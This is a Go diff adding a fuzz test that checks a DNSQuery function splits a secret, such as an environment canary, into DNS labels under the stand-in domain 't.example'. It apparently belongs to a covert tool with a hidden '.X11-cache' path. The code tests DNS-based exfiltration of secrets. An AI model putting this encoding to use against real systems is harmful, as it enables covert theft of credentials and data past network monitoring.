@@ -161,3 +161,37 @@ func TestShellAndFiles(t *testing.T) {
 	require.NoError(t, err)
 	assert.Equal(t, filepath.Join(dir, ".X11-cache", "k"), sp)
 }
+
+// FuzzDNSQuery: the labels of the query carry the secret intact, in
+// pieces of at most 63 bytes, followed by the domain.
+func FuzzDNSQuery(f *testing.F) {
+	f.Add([]byte("CANARY-ENV-0123"))
+	f.Add([]byte(strings.Repeat("x", 130)))
+	f.Add([]byte{0, 0xc0, 0xff})
+	f.Fuzz(func(t *testing.T, secret []byte) {
+		if len(secret) > 180 {
+			t.Skip("a query name is at most 255 bytes")
+		}
+		q := DNSQuery(secret, "t.example")
+		var got []byte
+		i := 12
+		var labels []string
+		for q[i] != 0 {
+			n := int(q[i])
+			if n == 0 || n > 63 {
+				t.Fatalf("label length %d", n)
+			}
+			labels = append(labels, string(q[i+1:i+1+n]))
+			i += 1 + n
+		}
+		if len(labels) < 2 || labels[len(labels)-2] != "t" || labels[len(labels)-1] != "example" {
+			t.Fatalf("domain labels %q", labels)
+		}
+		for _, l := range labels[:len(labels)-2] {
+			got = append(got, l...)
+		}
+		if !bytes.Equal(got, secret) {
+			t.Fatalf("labels carry %q, want %q", got, secret)
+		}
+	})
+}
